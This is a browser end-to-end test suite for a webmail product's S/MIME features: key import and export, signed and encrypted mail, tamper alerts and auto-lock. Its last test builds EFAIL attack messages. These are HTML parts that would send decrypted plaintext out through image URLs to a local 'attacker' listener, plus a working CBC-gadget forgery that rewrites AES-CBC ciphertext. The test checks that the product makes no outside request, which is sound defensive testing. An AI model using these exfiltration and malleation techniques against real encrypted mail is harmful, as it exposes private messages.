import { createHash, X509Certificate } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import "./locator-matchers.js";
import { type Party, SmimePki } from "../../../../packages/core/src/smime/test-support/pki.js";
import {
  DESKTOP,
  launchBrowser,
  openssl,
  PHONE,
  requestRecorder,
  type Sealbox,
  scratch,
  screenshot,
  signIn,
  startSealbox,
  swaks,
  unlock,
} from "./harness.js";

const LOGIN = "login password 1";
const ALICE_SMP = "alice's Secure Mail Password";
const BOB_SMP = "bob's Secure Mail Password";
const FILE_PW = "file password";

/**
 * The webmail in real headless Chromium against Sealbox started as the README starts it:
 * keys imported from an openssl-made PFX and exported again, mail made by openssl and
 * delivered over SMTP with swaks, Store Encrypted, Decrypt/Encrypt in place, compose
 * signed+encrypted, a tampered signature, auto-lock, two web processes, EFAIL shapes.
 * The steps run in order and build on each other (one Sealbox for the whole file).
 */
describe("webmail in a browser", () => {
  let sb: Sealbox;
  let browser: Browser;
  let pki: SmimePki;
  let alice: Party;
  let carol: Party;
  let files: string;
  let alicePage: Page;

  const inbox = (page: Page) => page.goto(`${sb.url}/mail/INBOX`);
  const openMessage = async (page: Page, subject: string) => {
    await inbox(page);
    await page
      .getByRole("link", { name: new RegExp(subject) })
      .first()
      .click();
    await page.getByRole("heading", { name: subject }).waitFor();
  };
  const lockState = (page: Page) =>
    page
      .getByText(/^Secure Mail is (Locked|Unlocked)$/)
      .first()
      .waitFor();
  const lockIfUnlocked = async (page: Page) => {
    await lockState(page);
    const lock = page.getByRole("button", { name: "Lock", exact: true });
    if (await lock.isVisible()) {
      await lock.click();
      await page.getByText("Secure Mail is Locked").waitFor();
    }
  };

  beforeAll(async () => {
    // carol@example.test is a local address, and only AUTH lets mail come from one.
    sb = await startSealbox({ env: { SEALBOX_SMTP_ALLOW_LOOPBACK_AUTH: "1" } });
    browser = await launchBrowser();
    pki = new SmimePki("web-e2e");
    alice = pki.party("Alice Example");
    carol = pki.party("Carol Example");
    files = scratch();
    // A modern openssl PKCS#12 (its defaults: AES-256-CBC, PBKDF2, HMAC-SHA256).
    openssl([
      ...["pkcs12", "-export", "-in", alice.certPath, "-inkey", alice.keyPath, "-certfile", pki.caCertPath],
      ...["-name", "Alice Example", "-out", join(files, "alice.pfx"), "-passout", `pass:${FILE_PW}`],
    ]);
    const env = { LOGIN };
    sb.cli(["account", "add", "alice@example.test", "--password-env", "LOGIN", "--name", "Alice Example"], {
      env,
    });
    sb.cli(["account", "add", "bob@example.test", "--password-env", "LOGIN", "--name", "Bob Example"], {
      env,
    });
    sb.cli(["account", "add", "carol@example.test", "--password-env", "LOGIN", "--name", "Carol Example"], {
      env,
    });
    // Signatures are judged against the domain's trust anchors: the openssl test root.
    sb.cli(["domain", "trust", "add", "example.test", pki.caCertPath]);
    ({ page: alicePage } = await signIn(browser, sb.url, "alice@example.test", LOGIN));
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await sb?.stop();
    pki?.cleanup();
  });

  it("shows the sign-in form on any page while signed out, and refuses a wrong password", async () => {
    const context = await browser.newContext({ viewport: DESKTOP });
    const page = await context.newPage();
    await page.goto(`${sb.url}/settings/secure-mail`);
    await expect(page.getByLabel("Account")).toBeVisible();
    await screenshot(page, "sign-in-desktop");
    await page.getByLabel("Account").fill("alice@example.test");
    await page.getByLabel("Password", { exact: true }).fill("not the password");
    await page.getByRole("button", { name: "Log In" }).click();
    await expect(page.getByRole("alert")).toContainText("Wrong account or password");
    await context.close();
  });

  it("imports a PFX made by openssl pkcs12 in Settings → Secure Mail, exports it again, and openssl reads the download", async () => {
    const page = alicePage;
    await page.getByRole("link", { name: "Settings" }).click();
    await page.getByRole("link", { name: "Secure Mail", exact: true }).click();
    await page.getByLabel("New Password", { exact: true }).fill(ALICE_SMP);
    await page.getByLabel("Reenter Password").fill(ALICE_SMP);
    await page.getByLabel("PFX File").setInputFiles(join(files, "alice.pfx"));
    await page.getByLabel("File Password", { exact: true }).fill(FILE_PW);
    await page.getByRole("button", { name: "Import File Data" }).click();
    await expect(page.getByText("RSA 2048")).toBeVisible({ timeout: 30_000 });
    await expect(page.getByText("alice@example.test").first()).toBeVisible();
    await screenshot(page, "secure-mail-with-key-desktop");

    await page.getByRole("button", { name: "Export Key and Certificate" }).click();
    // Locked: the panel asks for the Secure Mail Password first.
    await unlock(page, ALICE_SMP);
    await page.getByLabel("Export File Password").fill("export pw");
    await page.getByLabel("Verify File Password").fill("export pw");
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "Export", exact: true }).click();
    const file = await download;
    expect(file.suggestedFilename()).toBe("CertAndKey.pfx");
    const saved = join(files, "CertAndKey.pfx");
    await file.saveAs(saved);
    const pem = openssl(["pkcs12", "-in", saved, "-passin", "pass:export pw", "-nodes"]).toString();
    const cert = new X509Certificate(pem.slice(pem.indexOf("-----BEGIN CERTIFICATE-----")));
    expect(cert.fingerprint256).toBe(new X509Certificate(readFileSync(alice.certPath)).fingerprint256);
    // The key in the download is alice's key: same public key as her certificate.
    const keyPem = pem.slice(
      pem.indexOf("-----BEGIN PRIVATE KEY-----"),
      pem.indexOf("-----END PRIVATE KEY-----") + 25,
    );
    writeFileSync(join(files, "exported.key"), keyPem);
    const pub = openssl(["pkey", "-in", join(files, "exported.key"), "-pubout"]).toString();
    expect(pub).toBe(openssl(["x509", "-in", alice.certPath, "-pubkey", "-noout"]).toString());
  });

  it("reads a message made by openssl cms -sign then -encrypt: banners, cipher, signer; Take Certificate", async () => {
    const body =
      "Content-Type: text/plain; charset=utf-8\r\n\r\nThe quarterly numbers are attached in spirit.\r\n";
    const signed = openssl(
      ["cms", "-sign", "-signer", carol.certPath, "-inkey", carol.keyPath, "-md", "sha256"],
      { input: body },
    );
    const encrypted = openssl(
      [
        ...["cms", "-encrypt", "-aes-256-cbc", "-from", "Carol Example <carol@example.test>"],
        ...["-to", "alice@example.test", "-subject", "Quarterly numbers", alice.certPath],
      ],
      { input: signed },
    );
    writeFileSync(join(files, "carol.eml"), encrypted);
    swaks(sb.smtpPort, [
      "--to",
      "alice@example.test",
      "--from",
      "carol@example.test",
      ...["--auth", "PLAIN", "--auth-user", "carol@example.test", "--auth-password", LOGIN],
      "--data",
      join(files, "carol.eml"),
    ]);

    const page = alicePage;
    await inbox(page);
    await lockIfUnlocked(page);
    const row = page.getByRole("link", { name: /Quarterly numbers/ }).first();
    await expect(row.getByLabel("Encrypted")).toBeVisible();
    await row.click();
    await expect(page.getByText("Encrypted", { exact: true })).toBeVisible();
    await expect(page.getByText("quarterly numbers are attached")).toHaveCount(0);
    await unlock(page, ALICE_SMP);
    await expect(page.getByText("Encrypted AES-256-CBC")).toBeVisible();
    await expect(page.getByText("Signed Data (Text SHA-256)")).toBeVisible();
    await expect(page.getByText("Content Unaltered as Verified By:")).toBeVisible();
    await expect(page.getByText("Carol Example <carol@example.test>")).toBeVisible();
    await expect(page.getByText("The quarterly numbers are attached in spirit.")).toBeVisible();
    await screenshot(page, "message-signed-encrypted-desktop");

    await page.getByRole("button", { name: "Take Certificate" }).first().click();
    await expect(page.getByRole("status").filter({ hasText: /taken|address book/i })).toBeVisible();
    await page.getByRole("link", { name: "Contacts" }).click();
    await expect(page.getByText("[@]")).toBeVisible();
    await expect(page.getByText("carol@example.test")).toBeVisible();
    await screenshot(page, "contacts-desktop");
  });

  it("applies Store Encrypted to a message sent with swaks: listed as encrypted, opened after unlock", async () => {
    sb.cli([
      ...["rule", "add", "alice@example.test", "--name", "secret"],
      ...["--if", "Subject is *secret*", "--then", "Store Encrypted in INBOX"],
    ]);
    swaks(sb.smtpPort, [
      ...["--to", "alice@example.test", "--from", "dave@elsewhere.test"],
      ...["--header", "Subject: top secret plans", "--body", "The launch code is tulip-42."],
    ]);
    const listed = JSON.parse(sb.cli(["message", "list", "alice@example.test", "INBOX", "--json"]).stdout);
    const stored = listed.find((m: { subject: string }) => m.subject === "top secret plans");
    expect(stored.security).toBe("encrypted");

    const page = alicePage;
    await inbox(page);
    await lockIfUnlocked(page);
    const row = page.getByRole("link", { name: /top secret plans/ }).first();
    await expect(row.getByLabel("Encrypted")).toBeVisible();
    await row.click();
    await expect(page.getByText("Encrypted", { exact: true })).toBeVisible();
    await expect(page.getByText("tulip-42")).toHaveCount(0);
    await unlock(page, ALICE_SMP);
    await expect(page.getByText(/^Encrypted AES-256-CBC$/)).toBeVisible();
    await expect(page.getByText("The launch code is tulip-42.")).toBeVisible();

    // Download Message: the stored bytes exactly (still encrypted), streamed from the store.
    const download = page.waitForEvent("download");
    await page.getByRole("link", { name: "Download Message" }).click();
    const file = await download;
    expect(file.suggestedFilename()).toBe("top secret plans.eml");
    const saved = join(files, "downloaded.eml");
    await file.saveAs(saved);
    const shown = sb.cli(["message", "show", "alice@example.test", "INBOX", stored.id, "--raw"]).stdout;
    expect(readFileSync(saved, "utf8")).toBe(shown);
    expect(readFileSync(saved, "latin1")).toContain("application/pkcs7-mime");
    expect(readFileSync(saved, "latin1")).not.toContain("tulip-42");
  });

  it("Decrypt and Encrypt in place replace the stored message", async () => {
    const page = alicePage;
    await openMessage(page, "top secret plans");
    await page.getByRole("button", { name: "Decrypt", exact: true }).click();
    await expect(page.getByText("Encrypted AES-256-CBC")).toHaveCount(0, { timeout: 15_000 });
    await expect(page.getByText("The launch code is tulip-42.")).toBeVisible();
    const listed = () =>
      JSON.parse(sb.cli(["message", "list", "alice@example.test", "INBOX", "--json"]).stdout).filter(
        (m: { subject: string }) => m.subject === "top secret plans",
      );
    expect(listed()).toHaveLength(1);
    expect(listed()[0].security).toBe("plain");
    const row = page.getByRole("link", { name: /top secret plans/ }).first();
    await expect(row.getByLabel("Encrypted")).toHaveCount(0);

    await page.getByRole("button", { name: "Encrypt", exact: true }).click();
    await expect(page.getByText("Encrypted AES-256-CBC")).toBeVisible({ timeout: 15_000 });
    expect(listed()).toHaveLength(1);
    expect(listed()[0].security).toBe("encrypted");
  });

  it("composes signed+encrypted to bob, who reads it after unlocking", async () => {
    // Bob gets a key from the server CA in the browser.
    const { context: bobContext, page: bob } = await signIn(browser, sb.url, "bob@example.test", LOGIN);
    await bob.goto(`${sb.url}/settings/secure-mail`);
    await bob.getByLabel("New Password", { exact: true }).fill(BOB_SMP);
    await bob.getByLabel("Reenter Password").fill(BOB_SMP);
    await bob.getByRole("button", { name: "Generate Key and Certificate" }).click();
    await expect(bob.getByText("RSA 2048")).toBeVisible({ timeout: 60_000 });

    const page = alicePage;
    await page.getByRole("link", { name: "Compose" }).click();
    await unlockIfLocked(page);
    await page.getByLabel("To", { exact: true }).fill("bob@example.test");
    await page.getByLabel("Subject").fill("Lunch on Friday");
    await page.getByLabel("Message").fill("Meet at noon by the fountain.");
    await page.getByLabel("Send Signed").check();
    await page.getByLabel("Send Encrypted").check();
    await screenshot(page, "compose-desktop");
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await expect(page.getByText(/sent/i).first()).toBeVisible({ timeout: 30_000 });

    await bob.goto(`${sb.url}/mail/INBOX`);
    const row = bob.getByRole("link", { name: /Lunch on Friday/ }).first();
    await expect(row.getByLabel("Encrypted")).toBeVisible();
    await row.click();
    await unlock(bob, BOB_SMP);
    await expect(bob.getByText("Encrypted AES-256-CBC")).toBeVisible();
    await expect(bob.getByText("Signed Data (Text SHA-256)")).toBeVisible();
    await expect(bob.getByText("Content Unaltered as Verified By:")).toBeVisible();
    await expect(bob.getByText("Alice Example <alice@example.test>")).toBeVisible();
    await expect(bob.getByText("Meet at noon by the fountain.")).toBeVisible();
    await bobContext.close();

    // Alice's Sent copy is encrypted to her too: readable.
    await page.goto(`${sb.url}/mail/Sent`);
    await page
      .getByRole("link", { name: /Lunch on Friday/ })
      .first()
      .click();
    await expect(page.getByText("Meet at noon by the fountain.")).toBeVisible();
  });

  it("a tampered signed message shows an alert naming the signer and no Content Unaltered", async () => {
    const entity = "Content-Type: text/plain; charset=utf-8\r\n\r\nPay 100 EUR to account 12345.\r\n";
    const signed = openssl(
      [
        ...["cms", "-sign", "-signer", carol.certPath, "-inkey", carol.keyPath, "-md", "sha256"],
        ...["-from", "carol@example.test", "-to", "alice@example.test", "-subject", "Invoice"],
      ],
      { input: entity },
    ).toString("latin1");
    expect(signed).toContain("Pay 100 EUR");
    writeFileSync(
      join(files, "tampered.eml"),
      Buffer.from(signed.replace("Pay 100 EUR", "Pay 900 EUR"), "latin1"),
    );
    swaks(sb.smtpPort, [
      "--to",
      "alice@example.test",
      "--from",
      "carol@example.test",
      ...["--auth", "PLAIN", "--auth-user", "carol@example.test", "--auth-password", LOGIN],
      "--data",
      join(files, "tampered.eml"),
    ]);
    const page = alicePage;
    await openMessage(page, "Invoice");
    const alert = page.getByRole("alert").filter({ hasText: /altered/i });
    await expect(alert).toBeVisible();
    await expect(alert).toContainText("Carol Example");
    await expect(page.getByText("Content Unaltered as Verified By:")).toHaveCount(0);
    expect(await page.content()).not.toContain("Content Unaltered");
    await screenshot(page, "message-tampered-desktop");
  });

  it("locks by itself after the domain's unlock lifetime", async () => {
    sb.cli(["domain", "set", "example.test", "--unlock-seconds", "4"]);
    const page = alicePage;
    await inbox(page);
    await lockIfUnlocked(page);
    await unlock(page, ALICE_SMP);
    await expect(page.getByText("Secure Mail is Locked")).toBeVisible({ timeout: 15_000 });
    // The server agrees: the encrypted message is locked again.
    await openMessage(page, "top secret plans");
    await expect(page.getByText("tulip-42")).toHaveCount(0);
    sb.cli(["domain", "set", "example.test", "--unlock-seconds", "180"]);
  });

  it("an unlock on one web process is used by a second process on the same store", async () => {
    const second = await sb.startSecondWeb();
    try {
      const page = alicePage;
      await inbox(page);
      await lockIfUnlocked(page);
      await unlock(page, ALICE_SMP);
      // Same browser (cookies are per host, not per port), another process.
      await page.goto(`${second.url}/mail/INBOX`);
      await expect(page.getByText("Secure Mail is Unlocked")).toBeVisible();
      await page
        .getByRole("link", { name: /top secret plans/ })
        .first()
        .click();
      await expect(page.getByText("The launch code is tulip-42.")).toBeVisible();
    } finally {
      await second.stop();
    }
  });

  it("EFAIL shapes make no request to the attacker's server", async () => {
    const attacker = await requestRecorder();
    try {
      // Direct exfiltration: an encrypted part between two HTML parts that would wrap its plaintext into an image URL.
      const secret = openssl(["cms", "-encrypt", "-aes-256-cbc", alice.certPath], {
        input: "Content-Type: text/plain\r\n\r\nthe-secret-in-the-middle\r\n",
      }).toString("latin1");
      const p7m = secret.slice(secret.indexOf("Content-Type:"));
      const direct = [
        "From: eve@elsewhere.test",
        "To: alice@example.test",
        "Subject: EFAIL direct",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="BOUNDARY"',
        "",
        "--BOUNDARY",
        "Content-Type: text/html",
        "",
        `<img src="${attacker.url}/direct?`,
        "--BOUNDARY",
        p7m.trimEnd(),
        "--BOUNDARY",
        "Content-Type: text/html",
        "",
        '">',
        "--BOUNDARY--",
        "",
      ].join("\r\n");
      writeFileSync(join(files, "efail-direct.eml"), direct);
      swaks(sb.smtpPort, [
        "--to",
        "alice@example.test",
        "--from",
        "eve@elsewhere.test",
        "--data",
        join(files, "efail-direct.eml"),
      ]);
      // CBC gadget: what a successful gadget yields is attacker HTML inside the decrypted part.
      const gadget = openssl(
        [
          ...["cms", "-encrypt", "-aes-256-cbc", "-from", "eve@elsewhere.test", "-to", "alice@example.test"],
          ...["-subject", "EFAIL gadget", alice.certPath],
        ],
        {
          input: `Content-Type: text/html\r\n\r\n<p>hello</p><img src="${attacker.url}/gadget"><link rel="stylesheet" href="${attacker.url}/css"><div style="background:url(${attacker.url}/bg)">x</div>\r\n`,
        },
      );
      writeFileSync(join(files, "efail-gadget.eml"), gadget);
      swaks(sb.smtpPort, [
        "--to",
        "alice@example.test",
        "--from",
        "eve@elsewhere.test",
        "--data",
        join(files, "efail-gadget.eml"),
      ]);
      // The real CBC gadget: a ciphertext made by openssl, rebuilt in place (see realCbcGadget).
      const port = new URL(attacker.url).port;
      expect(port).toMatch(/^\d{5}$/);
      const chosen: [Buffer, Buffer, Buffer] = [
        Buffer.from('<img src="http:/'),
        Buffer.from(`/127.1:${port}/x">`),
        Buffer.concat([Buffer.from("<b>gadget</b>\r\n"), Buffer.from([0x01])]),
      ];
      const forged = realCbcGadget(chosen);
      writeFileSync(join(files, "efail-cbc-gadget.eml"), forged);
      swaks(sb.smtpPort, [
        "--to",
        "alice@example.test",
        "--from",
        "eve@elsewhere.test",
        "--data",
        join(files, "efail-cbc-gadget.eml"),
      ]);

      const page = alicePage;
      await inbox(page);
      await unlockIfLocked(page);
      await openMessage(page, "EFAIL direct");
      await expect(page.getByText("the-secret-in-the-middle")).toHaveCount(0);
      await openMessage(page, "EFAIL gadget");
      await expect(page.getByText("Encrypted AES-256-CBC")).toBeVisible();
      await expect(page.frameLocator('iframe[title="Message content"]').getByText("hello")).toBeVisible();
      await openMessage(page, "EFAIL CBC gadget");
      // Either the reader refuses the damaged plaintext, or shows it with the gadget's <img> held back.
      const frame = page.locator('iframe[title="Message content"]');
      await expect(page.getByRole("alert").or(frame).first()).toBeVisible();
      if (await frame.isVisible()) {
        await expect(page.getByText("Encrypted AES-256-CBC")).toBeVisible();
        await expect(page.getByText("Remote content is blocked")).toBeVisible();
      }
      await screenshot(page, "message-efail-cbc-gadget-desktop");
      await page.waitForTimeout(2000);
      expect(attacker.requests).toEqual([]);
    } finally {
      await attacker.close();
    }
  });

  it("takes screenshots at phone width with no horizontal scrolling", async () => {
    const { context, page } = await signIn(browser, sb.url, "alice@example.test", LOGIN, PHONE);
    for (const [name, path] of [
      ["mail-phone", "/mail/INBOX"],
      ["compose-phone", "/compose"],
      ["contacts-phone", "/contacts"],
      ["secure-mail-phone", "/settings/secure-mail"],
    ] as const) {
      await page.goto(`${sb.url}${path}`);
      await page.waitForLoadState("networkidle");
      await screenshot(page, name);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      expect(overflow, `${path} scrolls sideways at 375 px`).toBeLessThanOrEqual(0);
    }
    await context.close();
  });

  /**
   * EFAIL's CBC gadget (Poddebniak et al., USENIX Security 2018): CBC has no integrity, so
   * whoever knows one plaintext block P1 (S/MIME content starts "Content-Type: te") can make
   * the ciphertext decrypt to blocks of their choice. With the IV and C1 of a real message,
   * Gi = IV xor P1 xor Xi placed before a copy of C1 decrypts to Xi (D(C1) = P1 xor IV), and
   * Gi itself to 16 garbage bytes. The ciphertext is rebuilt in place as
   *   [IV][C1][C2][G1][C1][G2][C1][G3][C1]  ->  P1 P2 garbage X1 garbage X2 garbage X3
   * with the same length (no DER length changes) and X3 ending in valid PKCS#7 padding, so
   * a reader decrypts it without complaint and sees the attacker's HTML inside the part.
   * Here the garbage falls inside the URL, so even a naive renderer could not reach the
   * listener through it: what this proves is that Sealbox decrypts a malleated message and
   * still keeps its remote references out of the page. The forgery is checked with openssl
   * (alice's key) and retried until the garbage keeps the <img> tag whole, so the view is
   * the same on every run.
   */
  function realCbcGadget(chosen: [Buffer, Buffer, Buffer]): Buffer {
    // 27 header bytes + 93 body bytes = 120: with PKCS#7 padding, 8 AES blocks.
    const entity = Buffer.from(
      "Content-Type: text/html\r\n\r\n" +
        "<p>The board meets on Monday about the merger; the numbers stay in this room till then.</p>\r\n",
    );
    expect(entity.length).toBe(120);
    const p1 = entity.subarray(0, 16);
    for (let attempt = 0; attempt < 20; attempt++) {
      const smime = openssl(
        [
          ...["cms", "-encrypt", "-aes-256-cbc", "-from", "eve@elsewhere.test", "-to", "alice@example.test"],
          ...["-subject", "EFAIL CBC gadget", alice.certPath],
        ],
        { input: entity },
      ).toString("latin1");
      const split = /\r?\n\r?\n/.exec(smime);
      if (!split) throw new Error("openssl wrote no S/MIME body");
      const head = smime.slice(0, split.index + split[0].length);
      const der = Buffer.from(smime.slice(head.length), "base64");
      const lines = openssl(["asn1parse", "-inform", "DER"], { input: der }).toString().split("\n");
      const oid = lines.findIndex((l) => /prim: OBJECT\s+:aes-256-cbc\s*$/.test(l));
      const iv = asn1Element(lines[oid + 1]);
      const content = asn1Element(lines[oid + 2]);
      expect([iv.form, iv.what, iv.length]).toEqual(["prim", "OCTET STRING", 16]);
      expect([content.form, content.what, content.length]).toEqual(["prim", "cont [ 0 ]", 128]);
      const ivBytes = der.subarray(iv.start, iv.start + 16);
      const block = (i: number) =>
        Buffer.from(der.subarray(content.start + 16 * i, content.start + 16 * (i + 1)));
      const [c1, c2] = [block(0), block(1)];
      const gadget = (x: Buffer) => xor(ivBytes, p1, x);
      const rebuilt = Buffer.from(der);
      Buffer.concat([c1, c2, gadget(chosen[0]), c1, gadget(chosen[1]), c1, gadget(chosen[2]), c1]).copy(
        rebuilt,
        content.start,
      );
      const forged = Buffer.from(
        `${head}${rebuilt.toString("base64").replace(/.{1,64}/g, "$&\n")}\n`,
        "latin1",
      );
      // What a reader gets: openssl decrypts the forgery to exactly the chosen blocks.
      const plain = openssl(
        ["cms", "-decrypt", "-binary", "-recip", alice.certPath, "-inkey", alice.keyPath],
        { input: forged },
      );
      expect(plain.length).toBe(127);
      expect(plain.subarray(0, 32)).toEqual(entity.subarray(0, 32));
      expect(plain.subarray(48, 64)).toEqual(chosen[0]);
      expect(plain.subarray(80, 96)).toEqual(chosen[1]);
      expect(plain.subarray(112)).toEqual(chosen[2].subarray(0, 15));
      // Garbage before the tag that opens another tag, or a quote inside the URL, would change the HTML.
      if (!plain.subarray(32, 48).includes("<") && !plain.subarray(64, 80).includes('"')) return forged;
    }
    throw new Error("no forgery with harmless garbage in 20 attempts");
  }

  async function unlockIfLocked(page: Page) {
    await lockState(page);
    if (await page.getByText("Secure Mail is Locked").isVisible()) await unlock(page, ALICE_SMP);
  }
});

export const sha256 = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");

function xor(...blocks: Buffer[]): Buffer {
  const out = Buffer.alloc(16);
  for (const b of blocks) for (let i = 0; i < 16; i++) out[i] = (out[i] as number) ^ (b[i] as number);
  return out;
}

/** One line of `openssl asn1parse`: where the element's content starts, its length and kind. */
function asn1Element(line: string | undefined) {
  const m = /^\s*(\d+):d=\d+\s+hl=(\d+)\s+l=\s*(\d+)\s+(prim|cons):\s*(.*)$/.exec(line ?? "");
  if (!m) throw new Error(`not an asn1parse line: ${line}`);
  // "OCTET STRING      [HEX DUMP]:BC61…" → "OCTET STRING"; "cont [ 0 ]" stays.
  const what = (m[5] ?? "").split(":")[0]?.replace("[HEX DUMP]", "").trim();
  return { start: Number(m[1]) + Number(m[2]), length: Number(m[3]), form: m[4], what };
}
